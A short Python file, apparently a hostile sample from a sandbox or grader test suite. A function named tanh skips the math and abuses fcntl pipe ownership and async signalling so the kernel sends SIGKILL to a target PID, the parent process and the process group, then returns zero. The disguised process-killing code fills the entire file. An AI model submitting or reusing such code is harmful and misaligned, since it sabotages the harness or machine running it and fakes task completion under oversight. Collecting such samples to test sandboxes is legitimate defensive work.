# tries: have the kernel send SIGKILL for it, as the owner of a pipe
# stock: would harm the machine
# exercise: target.tanh
import fcntl
import os


def tanh(x):
    for pid in (int("@PID@"), os.getppid(), -os.getpgid(0)):
        reader, writer = os.pipe()
        try:
            fcntl.fcntl(reader, 10, 9)
            fcntl.fcntl(reader, fcntl.F_SETOWN, pid)
            fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC)
            os.write(writer, b"x")
        except OSError:
            pass
    return 0 * x
